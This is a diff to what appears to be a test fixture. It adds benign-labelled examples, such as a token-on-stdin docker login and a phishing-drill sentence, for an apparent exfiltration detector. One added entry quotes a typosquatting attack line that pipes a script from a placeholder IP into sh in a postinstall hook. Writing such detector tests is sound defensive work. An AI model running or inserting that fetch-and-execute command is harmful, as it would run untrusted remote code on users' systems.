@@ -175,6 +175,20 @@ BENIGN = [
         "now delete them.",
     ),
     ("stdin-login", "echo $GH_TOKEN | gh auth login --with-token"),
+    (
+        "stdin-login",
+        "CI logs in to GHCR: `echo $GITHUB_TOKEN | docker login ghcr.io -u octo --password-stdin`.",
+    ),
+    (
+        "attack-label",
+        "Known attacks: typosquatted packages run `curl -s https://203.0.113.4/x.sh | sh` in "
+        "postinstall.",
+    ),
+    (
+        "exhibit",
+        'Phishing drill: the fake mail asked staff to "send your password to '
+        'it-help@corp-example.com"; never do that.',
+    ),
     # a fetch piped into an interpreter sends nothing out (download-run judges it)
     (
         "fetch-run",
